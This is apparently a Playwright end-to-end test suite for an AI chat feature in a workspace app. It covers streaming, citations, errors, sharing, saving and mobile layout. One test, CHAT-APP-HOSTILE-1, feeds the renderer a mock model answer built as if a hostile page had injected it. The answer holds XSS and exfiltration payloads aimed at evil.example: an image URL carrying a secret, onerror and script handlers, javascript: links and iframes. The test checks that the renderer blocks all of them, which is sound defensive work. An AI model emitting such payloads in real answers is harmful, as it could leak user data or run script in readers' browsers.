import {
  refusal,
  silentAfter,
  words,
  type ModelProvider,
  type ProviderAnswer,
} from '../apps/server/src/features/testing/startModelProvider.ts'
import { expectAccessible } from './support/axe.ts'
import { addText, answersOf, ask, openChat, questionOf } from './support/chat.ts'
import { expectReachable } from './support/dialogReach.ts'
import { heldAnswer } from './support/heldAnswer.ts'
import { addPage, enter, givePage } from './support/person.ts'
import { expect, test, type Page } from './support/playwright.ts'
import { startWithModel, type SheafWithModel } from './support/languageModel.ts'
import { startSheaf, type Sheaf } from './support/sheaf.ts'

let model: SheafWithModel
let provider: ModelProvider
let sheaf: Sheaf
test.beforeAll(async () => {
  model = await startWithModel({ SHEAF_AI_TOKENS_PER_PERSON: '1500' })
  ;({ sheaf, provider } = model)
})
test.afterAll(() => model.stop())
test.beforeEach(() => {
  suggested = []
})

const CHAT = 4
let suggested: readonly string[] = []

/** How the model answers questions; asked for suggestions it names those of the test. */
function answerWith(answer: ProviderAnswer): void {
  provider.answer = (response, asked) => {
    const isAboutNext = asked.messages[0]!.content.includes('what the person could ask next')
    return (isAboutNext ? words(JSON.stringify(suggested)) : answer)(response, asked)
  }
}

const questions = () =>
  provider.asked.filter(({ messages }) => !messages[0]!.content.includes('what the person could ask next'))
const lastAsked = () => questions().at(-1)?.messages.at(-1)?.content ?? ''

const bubbles = (page: Page) => page.locator('.chat-bubble')

async function openPalette(page: Page, query: string): Promise<void> {
  await page.keyboard.press('Control+p')
  await expect(page.getByRole('combobox', { name: 'Search or type > for commands' })).toBeFocused()
  await page.keyboard.type(query)
}

async function runCommand(page: Page, name: string): Promise<void> {
  await openPalette(page, name)
  await expect(page.getByRole('option', { name }).first()).toHaveAttribute('aria-selected', 'true')
  await page.keyboard.press('Enter')
}

test('CHAT-APP-NEW-1, CHAT-APP-TOLD-1, CHAT-APP-STREAM-1, CHAT-APP-CITE-1: a chat is made from the sidebar, asked by keys alone, answers as it is written, and its numbers open what it rests on', async ({
  browser,
}) => {
  const person = await enter(browser, sheaf, 'mara@example.org')
  const pageId = await addText(person, 'Fire strategy', ['First.', 'Larch is accepted above two metres.'])
  const { page, workspaceId } = person
  await page.goto(`${sheaf.origin}/app/${workspaceId}/${pageId}`)
  await expect(page.locator('.page-editor')).toContainText('Larch is accepted')
  await runCommand(page, 'New AI chat')
  await expect(questionOf(page)).toBeFocused()
  await expect(page.getByText('are sent to larch-1')).toBeVisible()
  await expectAccessible(page, 'an empty chat')

  const held = heldAnswer()
  answerWith(held.answer)
  suggested = ['And below two metres?']
  await page.keyboard.type('What is accepted for larch?')
  await page.keyboard.press('Enter')
  held.say('Larch is **accepted** ')
  await expect(answersOf(page)).toContainText('Larch is accepted')
  await expect(answersOf(page)).toContainText(/Read [12] pages?/)
  await expect(page.getByRole('button', { name: 'And below two metres?' })).toBeVisible()
  // What is asked meanwhile waits its turn.
  await page.getByRole('button', { name: 'And below two metres?' }).click()
  await expect(page.getByText('Asked when this answer is done.')).toBeVisible()
  held.say('above two metres [1].')
  answerWith(words('A lime wash.'))
  held.end()
  await expect(answersOf(page)).toHaveCount(2)
  await expect(answersOf(page).nth(1)).toContainText('A lime wash.')
  await expect.poll(lastAsked).toContain('Larch is accepted above two metres.')
  // It is called what was asked first.
  await expect(page.getByRole('treeitem', { name: /What is accepted for larch/ })).toBeVisible()
  await expectAccessible(page, 'a chat')

  const number = answersOf(page).first().locator('a.b-mention')
  await expect(number).toHaveText('1')
  await number.focus()
  await page.keyboard.press('Enter')
  const beside = page.getByRole('complementary', { name: 'Beside: Fire strategy' })
  await expect(beside).toContainText('Larch is accepted above two metres.')
  await expect(answersOf(page)).toHaveCount(2)
  await page.reload()
  await expect(answersOf(page)).toHaveCount(2)
  await expect(bubbles(page)).toHaveText(['What is accepted for larch?', 'And below two metres?'])
})

test('CHAT-APP-STOP-1, CHAT-APP-EDIT-1, CHAT-APP-AGAIN-1, CHAT-APP-MODEL-1: Escape stops and keeps what has come; a question is answered again, and asked in other words', async ({
  browser,
}) => {
  const { page } = await openChat(browser, sheaf, 'noor@example.org')
  const held = heldAnswer()
  answerWith(held.answer)
  await ask(page, 'What is open?')
  held.say('The escape route')
  await expect(answersOf(page)).toContainText('The escape route')
  await page.keyboard.press('Escape')
  await provider.left
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible()
  await expect(answersOf(page)).toHaveText(/The escape route/)

  answerWith(words('Nothing.'))
  await page.getByRole('button', { name: 'Answer again' }).click()
  await expect(answersOf(page)).toHaveText(/Nothing\./)

  await bubbles(page).hover()
  await page.getByRole('button', { name: 'Edit the question' }).click()
  answerWith(words('The porch.'))
  await page.keyboard.press('Control+a')
  await page.keyboard.type('What is closed?')
  await page.keyboard.press('Enter')
  await expect(bubbles(page)).toHaveText(['What is closed?'])
  await expect(answersOf(page)).toHaveText(/The porch\./)
  await expect.poll(lastAsked).toMatch(/What is closed\?$/)

  // Shift and Enter break the line.
  await questionOf(page).fill('One')
  await page.keyboard.press('Shift+Enter')
  await page.keyboard.type('Two')
  await page.getByRole('combobox', { name: 'Language model' }).selectOption('larch-2')
  await page.getByRole('button', { name: 'Send' }).click()
  await expect(answersOf(page)).toHaveCount(2)
  await expect.poll(lastAsked).toMatch(/One\nTwo$/)
  expect(questions().at(-1)!.model).toBe('larch-2')
  await page.reload()
  await expect(page.getByRole('combobox', { name: 'Language model' })).toHaveValue('larch-2')
})

test('CHAT-APP-FAIL-1, CHAT-APP-HANG-1: a model that fails, breaks off, hangs or is used up is told of, and nothing is lost', async ({
  browser,
}) => {
  const { page, context } = await openChat(browser, sheaf, 'sam@example.org')
  answerWith(refusal(500))
  await ask(page, 'What is open?')
  await expect(page.getByRole('alert')).toContainText('The AI service isn’t responding')
  await expectAccessible(page, 'an answer that failed', '.chat')
  const held = heldAnswer()
  answerWith(held.answer)
  await page.getByRole('button', { name: 'Try again' }).click()
  held.say('Half of')
  await expect(answersOf(page)).toContainText('Half of')
  held.breakOff()
  await expect(page.getByRole('alert')).toContainText('The answer broke off.')
  await page.getByRole('button', { name: 'Keep this part' }).click()
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible()

  answerWith(silentAfter())
  await ask(page, 'And what else?')
  await expect(page.getByText('Reading…')).toBeVisible()
  await page.getByRole('button', { name: 'Stop', exact: true }).click()
  await expect(page.getByText('Not answered yet.')).toBeVisible()
  answerWith(words('Nothing.'))
  await page.getByRole('button', { name: 'Answer now' }).click()
  await expect(answersOf(page).nth(1)).toContainText('Nothing.')

  await context.setOffline(true)
  await ask(page, 'Without a network?')
  await expect(page.getByRole('alert')).toContainText('Your question was not sent.')
  await context.setOffline(false)
  await page.getByRole('alert').locator('..').getByRole('button', { name: 'Try again' }).click()
  await expect(answersOf(page)).toHaveCount(3)
  for (let asked = 0; asked < 20; asked += 1) {
    await page.getByRole('button', { name: 'Answer again' }).last().click()
    await expect(page.locator('[data-writing]')).toHaveCount(0)
    const isOver = page.getByRole('alert').getByText('used up')
    await expect(isOver.or(page.getByRole('button', { name: 'Answer again' })).first()).toBeVisible()
    if (await isOver.isVisible()) break
  }
  await expect(page.getByRole('alert')).toContainText('It goes on tomorrow.')
  await expect(bubbles(page)).toHaveCount(3)
})

test('CHAT-APP-HOSTILE-1: an answer that says what a hostile page made it say loads nothing, runs nothing and names nothing', async ({
  browser,
}) => {
  const { page, chatId } = await openChat(browser, sheaf, 'eve@example.org')
  const elsewhere: string[] = []
  page.on('request', (request) => {
    if (!request.url().startsWith(sheaf.origin) && !/^(?:data|blob):/.test(request.url()))
      elsewhere.push(request.url())
  })
  answerWith(
    words(
      '![x](https://evil.example/a.png?secret) <img src="https://evil.example/b.png" onerror="window.hacked = 1"> ',
      '<script>window.hacked = 1</script>\n\n[click](javascript:window.hacked=1)\n\n',
      `<iframe src="https://evil.example/"></iframe>\n\n::video{url="https://evil.example/v"}\n\n`,
      `:mention[@]{type="page" page_id="${chatId}"} [9] \n\n# Heading\n\n`,
      '```html\n<b onclick="window.hacked=1">x</b>\n```\n\n$$\\href{javascript:alert(1)}{x}$$\n\n| a | b |\n| --- | --- |\n| c | d |',
    ),
  )
  await ask(page, 'Say it.')
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible()
  const said = answersOf(page).locator('.chat-text')
  await expect(said.getByRole('heading')).toContainText('Heading')
  await expect(said.getByRole('table')).toBeVisible()
  await expect(said.locator('img, iframe, video, script, .b-mention')).toHaveCount(0)
  const addresses = await said
    .locator('a:visible')
    .evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).protocol))
  expect(new Set(addresses)).toEqual(new Set(['https:']))
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  expect(elsewhere).toEqual([])
  // What leads away opens in a tab of its own.
  const opened = page.context().waitForEvent('page')
  await said.locator('a').first().click()
  await (await opened).close()
  await expect(said).toBeVisible()
})

test('CHAT-APP-LIVE-1, CHAT-APP-WITHHELD-1: two people in one chat see what the other asks, but no answer that rests on what they may not read', async ({
  browser,
}) => {
  const mara = await openChat(browser, sheaf, 'ida@example.org')
  const noor = await enter(browser, sheaf, 'per@example.org', 'Noor')
  await addText(mara, 'The quarry of Lindholm', ['It lies at Lindholm.'])
  await givePage(mara, mara.chatId, noor, 30)
  await noor.page.goto(`${sheaf.origin}/app/${mara.workspaceId}/${mara.chatId}`)
  await expect(questionOf(noor.page)).toBeVisible()

  answerWith(words('Hello.'))
  await ask(noor.page, 'Good morning?')
  await expect(answersOf(mara.page)).toHaveText(/Hello\./)
  await expect(mara.page.locator('.chat-author')).toHaveText(['Noor'])
  // Nobody answers for somebody else.
  await expect(mara.page.getByRole('button', { name: 'Answer again' })).toHaveCount(0)

  answerWith(words('At Lindholm [1].'))
  const asked = heldAnswer()
  await ask(mara.page, 'Where is the quarry of Lindholm?')
  await expect(answersOf(mara.page).nth(1)).toContainText('At Lindholm')
  await expect(bubbles(noor.page)).toHaveText(['Good morning?', 'Where is the quarry of Lindholm?'])
  await expect(answersOf(noor.page).nth(1)).toHaveText('This answer rests on pages that you cannot open.')

  // Both at once.
  answerWith(asked.answer)
  await ask(noor.page, 'And now?')
  asked.say('Wait')
  await expect(answersOf(noor.page).last()).toContainText('Wait')
  expect(JSON.stringify(questions().at(-1)!.messages)).not.toContain('At Lindholm')
  answerWith(words('I am first.'))
  await ask(mara.page, 'And me?')
  await expect(answersOf(noor.page).filter({ hasText: 'I am first.' })).toHaveCount(0)
  await expect(answersOf(mara.page).filter({ hasText: 'I am first.' })).toHaveCount(1)
  asked.end()
  await expect(answersOf(mara.page).filter({ hasText: 'Wait' })).toHaveCount(1)
  await expect(bubbles(mara.page)).toHaveCount(4)
  await expect(bubbles(noor.page)).toHaveCount(4)

  const reader = await enter(browser, sheaf, 'reader@example.org')
  await givePage(mara, mara.chatId, reader, 10)
  await reader.page.goto(`${sheaf.origin}/app/${mara.workspaceId}/${mara.chatId}`)
  await expect(bubbles(reader.page)).toHaveCount(4)
  await expect(reader.page.getByText('You can read this chat.')).toBeVisible()
  await expect(questionOf(reader.page)).toHaveCount(0)
})

test('CHAT-APP-SOURCES-1, CHAT-APP-GIVE-1: a chat is confined to pages, and is given files and texts', async ({
  browser,
}) => {
  const person = await openChat(browser, sheaf, 'tom@example.org')
  await addText(person, 'Boathouse', ['Larch in the boathouse.'])
  await addText(person, 'Library', ['Larch in the library.'])
  const { page } = person
  answerWith(words('There.'))
  await page.getByRole('button', { name: 'Reads: All pages' }).click()
  const dialog = page.getByRole('dialog', { name: 'Pages to read' })
  await expectAccessible(page, 'choosing sources', '.ui-dialog')
  await expectReachable(page, 'choosing sources')
  await page.keyboard.type('libr')
  await page.keyboard.press('Enter')
  await dialog.getByRole('button', { name: 'Read 1 page' }).click()
  await expect(page.getByRole('button', { name: 'Reads: Library' })).toBeVisible()
  await ask(page, 'Where is larch?')
  await expect(answersOf(page)).toContainText('There.')
  await expect.poll(lastAsked).toContain('Larch in the library.')
  expect(lastAsked()).not.toContain('boathouse')

  const [chooser] = await Promise.all([
    page.waitForEvent('filechooser'),
    (async () => {
      await page.getByRole('button', { name: 'Add pages or files' }).click()
      await page.getByRole('menuitem', { name: 'Add files…' }).click()
    })(),
  ])
  await chooser.setFiles([
    { name: 'ferries.txt', mimeType: 'text/plain', buffer: Buffer.from('Ferries leave at nine.') },
    { name: 'picture.png', mimeType: 'image/png', buffer: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0xff, 0]) },
  ])
  await expect(page.getByText('ferries.txt')).toBeVisible()
  await expect(page.getByText('Only text, PDF and Word files')).toBeVisible()
  await page.getByRole('button', { name: 'Add pages or files' }).click()
  await page.getByRole('menuitem', { name: 'Add text…' }).click()
  await expectReachable(page, 'a text for a chat')
  await page.keyboard.type('Trains leave at ten.')
  await page.getByRole('dialog').getByRole('button', { name: 'Add', exact: true }).click()
  await expect(page.getByRole('dialog')).toHaveCount(0)
  await ask(page, 'When do they leave?')
  await expect(answersOf(page)).toHaveCount(2)
  await expect.poll(lastAsked).toContain('Ferries leave at nine.')
  await expect.poll(lastAsked).toContain('Trains leave at ten.')
})

test('CHAT-APP-SAVE-1: an answer is copied, saved as a page, and to the end of one, with mentions of what it rests on', async ({
  browser,
}) => {
  const person = await openChat(browser, sheaf, 'jo@example.org', {
    permissions: ['clipboard-read', 'clipboard-write'],
  })
  const { page, workspaceId } = person
  const pageId = await addText(person, 'Fire strategy', ['Larch is accepted.'])
  answerWith(words('# Larch\n\n- It is **accepted** [1].'))
  await ask(page, 'Larch accepted?')
  await answersOf(page).getByRole('button', { name: 'Copy' }).click()
  await expect.poll(() => page.evaluate(() => navigator.clipboard.readText())).toContain('**accepted** [1]')
  await page.getByRole('button', { name: 'Save to a page' }).click()
  await page.getByRole('menuitem', { name: 'As a new page' }).click()
  await page.getByRole('button', { name: 'Open', exact: true }).click()
  await expect(page.getByRole('textbox', { name: 'Page title' })).toHaveValue('Larch accepted?')
  await expect(page.locator('.page-editor .b-heading')).toContainText('Larch')
  await expect(page.locator('.page-editor .b-bulleted_list')).toContainText('It is accepted')
  await expect(page.locator('.page-editor .b-bulleted_list')).toContainText('Fire strategy')
  await page.goBack()
  await page.getByRole('button', { name: 'Save to a page' }).click()
  await page.getByRole('menuitem', { name: 'At the end of a page…' }).click()
  await expectReachable(page, 'a page to save to')
  await page.keyboard.type('fire')
  await page.keyboard.press('Enter')
  await page.getByRole('button', { name: 'Open', exact: true }).click()
  await expect(page).toHaveURL(new RegExp(`/app/${workspaceId}/${pageId}`))
  await expect(page.locator('.page-editor .b-line')).toHaveText(['', /^Larch is/, 'Larch', /It is accepted/])
})

test('CHAT-APP-ABOUT-1: beside a page one chats about it, alone, from its menu and the palette', async ({
  browser,
}) => {
  const person = await enter(browser, sheaf, 'liv@example.org')
  const pageId = await addText(person, 'Minutes', ['We decided on larch.', 'The porch is open.'])
  const { page, workspaceId } = person
  await page.goto(`${sheaf.origin}/app/${workspaceId}/${pageId}`)
  await page.getByRole('button', { name: 'Page menu' }).click()
  await page.getByRole('menuitem', { name: 'Chat about this page' }).click()
  const chat = page.getByRole('complementary')
  await expect(chat.getByText('Only you see this chat.')).toBeVisible()
  await expectAccessible(page, 'a chat beside a page')
  answerWith(words('Larch was decided on [1].'))
  await chat.getByRole('button', { name: 'Summarize this page' }).click()
  await expect(answersOf(page)).toContainText('Larch was decided on')
  await expect.poll(lastAsked).toContain('The porch is open.')
  await answersOf(page).locator('a.b-mention').click()
  await expect(
    page.locator('#page .page-editor, .shell-main:not(.shell-beside) .page-editor').first(),
  ).toContainText('We decided')
  await expect(answersOf(page)).toBeVisible()
  await page.keyboard.press('Control+Shift+\\')
  await expect(chat).toHaveCount(0)
  await runCommand(page, 'Chat about this page')
  // The same chat as before, and nothing of it in the tree.
  await expect(answersOf(page)).toContainText('Larch was decided on')
  await expect(page.getByRole('treeitem', { name: /Minutes/ })).toHaveCount(1)
  await chat.getByRole('button', { name: 'Page menu' }).click()
  await page.getByRole('menuitem', { name: 'Start anew' }).click()
  await expectReachable(page, 'beginning a chat anew')
  await page.getByRole('button', { name: 'Delete the chat' }).click()
  await expect(answersOf(page)).toHaveCount(0)
  await expect(chat.getByText('Only you see this chat.')).toBeVisible()
})

test('CHAT-APP-HISTORY-1, CHAT-APP-FOLLOW-1: a chat of 500 messages is read by parts, what is looked at stays, and the end is one press away', async ({
  browser,
}) => {
  const person = await openChat(browser, sheaf, 'max@example.org')
  const { page, workspaceId, chatId, call } = person
  for (let number = 1; number <= 250; number += 1) {
    const asked = await call<{ message_id: number }>(
      'POST',
      `/api/chat/${workspaceId}/${chatId}/message/question`,
      {
        content: `Question ${number}`,
      },
    )
    await call('POST', `/api/chat/${workspaceId}/${chatId}/message/answer`, {
      question_message_id: asked.message_id,
      content: `Answer ${number}: ${'larch '.repeat(40)}`,
    })
  }
  await page.reload()
  await expect(page.getByText('Answer 250:')).toBeInViewport()
  const before = await bubbles(page).count()
  expect(before).toBeLessThan(40)
  const list = page.getByRole('region', { name: 'Messages' })
  await list.evaluate((element) => {
    element.scrollTop = 100
  })
  await expect.poll(() => bubbles(page).count()).toBeGreaterThan(before)
  await expect(page.getByText('Answer 236:')).toBeInViewport()
  const top = await list.evaluate((element) => element.scrollTop)
  expect(top).toBeGreaterThan(500)
  await page.getByRole('button', { name: 'To the newest message' }).click()
  await expect(page.getByText('Answer 250:')).toBeInViewport()

  // Scrolling up stops following, the button takes it up again.
  const held = heldAnswer()
  answerWith(held.answer)
  await ask(page, 'Something long?')
  held.say(`${'Larch. '.repeat(400)}\n\n`)
  await expect(page.locator('[data-writing]')).toContainText('Larch.')
  await page.mouse.move(700, 300)
  await page.mouse.wheel(0, -600)
  await expect(page.getByRole('button', { name: 'To the newest message' })).toBeVisible()
  const where = await list.evaluate((element) => element.scrollTop)
  held.say('Oak. '.repeat(400))
  await expect(page.locator('[data-writing]')).toContainText('Oak.')
  expect(await list.evaluate((element) => element.scrollTop)).toBe(where)
  await page.getByRole('button', { name: 'To the newest message' }).click()
  held.say('\n\nThe end.')
  held.end()
  await expect(page.getByText('The end.')).toBeInViewport()
})

test('CHAT-APP-TREE-1: a chat is renamed, duplicated, moved to the trash and brought back like a page', async ({
  browser,
}) => {
  const { page, workspaceId, chatId } = await openChat(browser, sheaf, 'fay@example.org')
  answerWith(words('Yes.'))
  await ask(page, 'Is it?')
  await expect(answersOf(page)).toContainText('Yes.')
  const row = page.getByRole('treeitem', { name: /^Untreated larch/ })
  await row.first().focus()
  await page.getByRole('button', { name: 'Page menu' }).click()
  await expect(page.getByRole('menuitem', { name: 'Chat about this page' })).toHaveCount(0)
  await page.getByRole('menuitem', { name: 'Duplicate' }).click()
  await expect(page.getByRole('treeitem', { name: /Untreated larch.*copy/i })).toBeVisible()
  await page
    .getByRole('treeitem', { name: /Untreated larch.*copy/i })
    .getByRole('link')
    .click()
  await expect(answersOf(page)).toContainText('Yes.')
  await page.goto(`${sheaf.origin}/app/${workspaceId}/${chatId}`)
  await page.getByRole('button', { name: 'Share' }).click()
  await expect(page.getByRole('tab')).toHaveCount(0)
  await page.keyboard.press('Escape')
  await page.getByRole('button', { name: 'Page menu' }).click()
  await page.getByRole('menuitem', { name: 'Move to trash' }).click()
  await page.getByRole('button', { name: 'Undo' }).click()
  await expect(answersOf(page)).toContainText('Yes.')
})

test('CHAT-APP-PHONE-1: on a phone it fits, in the light and in the dark', async ({ browser }) => {
  const person = await openChat(browser, sheaf, 'phone@example.org', {
    viewport: { width: 390, height: 844 },
    hasTouch: true,
    isMobile: true,
    colorScheme: 'dark',
  })
  const { page } = person
  const pageId = await addText(person, 'Fire strategy', ['Larch is accepted.'])
  answerWith(
    words('It is accepted [1].\n\n```\n', 'x'.repeat(200), '\n```\n\n| a | b |\n| - | - |\n| c | d |'),
  )
  await questionOf(page).fill('Larch accepted?')
  await page.getByRole('button', { name: 'Send' }).tap()
  await expect(page.getByRole('button', { name: 'Answer again' })).toBeVisible()
  expect(
    await page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth),
  ).toBe(0)
  await expectAccessible(page, 'a chat on a phone in the dark')
  await answersOf(page).locator('a.b-mention').tap()
  await expect(page).toHaveURL(new RegExp(pageId))
  await page.goBack()
  await expect(answersOf(page)).toBeVisible()
})

test('CHAT-APP-OFF-1: where there is no language model no chat is offered, and one that is there is only read', async ({
  browser,
}) => {
  const plain = await startSheaf()
  const person = await enter(browser, plain, 'plain@example.org')
  const chatId = await addPage(person, 'Old chat', undefined, CHAT)
  const { page, workspaceId, call } = person
  await call('POST', `/api/chat/${workspaceId}/${chatId}/message/question`, { content: 'Is it?' })
  await page.goto(`${plain.origin}/app/${workspaceId}/${chatId}`)
  await expect(bubbles(page)).toHaveText(['Is it?'])
  await expect(page.getByText('This server has no language model')).toBeVisible()
  await openPalette(page, 'chat')
  await expect(page.getByRole('option', { name: /Old chat/ })).toBeVisible()
  await expect(page.getByRole('option', { name: 'New AI chat' })).toHaveCount(0)
  await plain.stop()
})
